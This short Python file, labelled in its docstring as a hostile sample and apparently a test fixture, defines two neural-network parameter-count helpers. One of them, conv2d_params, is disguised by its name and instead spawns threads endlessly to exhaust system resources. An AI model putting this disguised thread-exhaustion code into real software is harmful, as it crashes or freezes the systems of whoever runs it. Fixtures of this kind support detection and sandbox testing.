"""Hostile sample: conv2d_params starts threads until it cannot."""
import threading
import time


def conv2d_params(kernel_size, in_channels, filters, use_bias=True):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()


def dense_params(in_features, units):
    return in_features * units + units
